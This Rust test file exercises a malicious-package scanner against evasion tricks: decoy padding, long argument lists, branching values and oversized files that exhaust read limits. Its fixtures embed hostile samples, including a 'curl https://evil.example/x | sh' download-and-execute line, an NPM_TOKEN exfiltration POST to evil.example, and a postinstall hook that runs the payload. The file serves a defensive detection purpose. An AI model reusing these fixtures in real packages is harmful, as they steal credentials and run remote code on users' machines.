//! Packages that are made so that the report is full, or what is read is used up,
//! before what they are about.

use ringfence_analysis::{Limits, Policy, Question, Report, SourceFile, Tree, assess, facts};

fn report(files: &[(&str, &str)], limits: &Limits) -> Report {
    let files = files.iter().map(|(path, text)| SourceFile {
        path: (*path).to_owned(),
        bytes: text.as_bytes().to_vec().into(),
    });
    let tree = Tree::new(files.collect());
    let facts = facts(&tree, limits);
    let policy = Policy::default();
    assess(&tree, &facts, &Question { subject: "a", declared: None, policy: &policy, today: None })
}

fn has(report: &Report, code: &str) -> bool {
    report.findings.iter().any(|finding| finding.code == code)
}

fn one(path: &str, text: &str) -> Report {
    report(&[(path, text)], &Limits::default())
}

#[test]
fn a_finding_says_where_evaluation_ended_and_counts() {
    for (path, text) in [
        ("a.js", "// one\n// two\nlet n = 0; for (let i = 0; i < 1e9; i++) { n += i }\n"),
        ("a.py", "# one\n# two\nn = ''\nfor i in range(99999):\n    n = n[-9:] + str(i)\n"),
    ] {
        let report = one(path, text);
        let told = report.findings.iter().find(|finding| finding.code == "unparsed-file");
        let told = told.unwrap_or_else(|| panic!("{path} tells nothing"));
        assert!(told.spot.line >= 3, "{path}: {told:?}");
        assert!(report.score < 100, "{path}: {}", report.score);
    }
}

#[test]
fn what_is_sent_is_known_whatever_it_is_mixed_with() {
    let decoys: String = (0..40).map(|at| format!("atob('YQ{at}==') + ")).collect();
    let text = format!(
        "const all = {decoys} process.env.NPM_TOKEN; fetch('https://evil.example/', {{ method: 'POST', body: all }})"
    );
    assert!(has(&one("index.js", &text), "exfiltration-of-environment"));
    let decoys: String =
        (0..40).map(|at| format!("base64.b64decode('YWJj{at:04}').decode() + ")).collect();
    let text = format!(
        "import os, base64, requests\nall = {decoys}os.environ['NPM_TOKEN']\nrequests.post('https://evil.example/', data=all)\n"
    );
    assert!(has(&one("a.py", &text), "exfiltration-of-environment"));
}

#[test]
fn a_command_is_known_however_much_stands_before_it() {
    for (what, command) in [
        ("commands", format!("{}curl https://evil.example/x | sh", "true; ".repeat(2_000))),
        ("words", format!("{}sh -c 'curl https://evil.example/x | sh'", "A=1 ".repeat(2_000))),
        ("blanks", format!("{}curl https://evil.example/x | sh", " ".repeat(200_000))),
        ("text", format!("echo {}; curl https://evil.example/x | sh", "x".repeat(200_000))),
    ] {
        let javascript = format!("require('child_process').exec(\"{command}\")");
        let python = format!("import os\nos.system(\"{command}\")\n");
        for (path, text) in [("index.js", javascript), ("a.py", python)] {
            let report = one(path, &text);
            let is_told = has(&report, "unparsed-file");
            assert!(has(&report, "download-and-execute") || is_told, "{path} {what}");
            assert!(
                what == "text" || what == "blanks" || has(&report, "download-and-execute"),
                "{path} {what}"
            );
        }
    }
}

#[test]
fn a_list_of_arguments_is_known_however_long_it_is() {
    let decoys = "'A=1', ".repeat(100);
    let javascript = format!(
        "require('child_process').spawn('env', [{decoys} 'sh', '-c', 'curl https://evil.example/x | sh'])"
    );
    let python = format!(
        "import subprocess\nsubprocess.run(['env', {decoys} 'sh', '-c', 'curl https://evil.example/x | sh'])\n"
    );
    for (path, text) in [("index.js", javascript), ("a.py", python)] {
        let report = one(path, &text);
        assert!(has(&report, "download-and-execute"), "{path}");
    }
}

#[test]
fn a_value_that_may_be_many_is_all_of_them() {
    let javascript: String = (0..9).map(|at| format!("if (a[{at}]) c = 'ls {at}';")).collect();
    let javascript = format!(
        "let c = 'id'; {javascript} if (b) c = 'curl https://evil.example/x | sh'; require('child_process').exec(c)"
    );
    let python: String = (0..9).map(|at| format!("if a[{at}]:\n    c = 'ls {at}'\n")).collect();
    let python = format!(
        "import os\nfrom x import a, b\nc = 'id'\n{python}if b:\n    c = 'curl https://evil.example/x | sh'\nos.system(c)\n"
    );
    for (path, text) in [("index.js", javascript), ("a.py", python)] {
        assert!(has(&one(path, &text), "download-and-execute"), "{path}");
    }
}

#[test]
fn code_in_commands_does_not_use_up_what_another_file_needs() {
    let decoys: String =
        (0..5_000).map(|at| format!("os.system('sh -c \"echo {at}\"')\n")).collect();
    let decoys = format!("import os\n{decoys}");
    let payload = "import os\nos.system('curl https://evil.example/x | sh')\n";
    let report = report(&[("a.py", &decoys), ("b.py", payload)], &Limits::default());
    assert!(has(&report, "download-and-execute") && has(&report, "unparsed-file"));
}

#[test]
fn large_files_do_not_keep_small_ones_from_being_read() {
    let limits = Limits { total_bytes: 100_000, ..Limits::default() };
    let junk = "a();\n".repeat(15_000);
    let payload = "require('child_process').exec('curl https://evil.example/x | sh')";
    let report = report(&[("a.js", &junk), ("b.js", &junk), ("c.js", payload)], &limits);
    assert!(has(&report, "download-and-execute") && has(&report, "unparsed-file"));
    let limits = Limits { files: 50, ..Limits::default() };
    let names: Vec<String> = (0..100).map(|at| format!("a{at}.js")).collect();
    let mut files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "a()")).collect();
    files.push(("install.js", payload));
    files.push((
        "package.json",
        r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
    ));
    let report = self::report(&files, &limits);
    assert!(has(&report, "download-and-execute") && has(&report, "unparsed-file"));
}
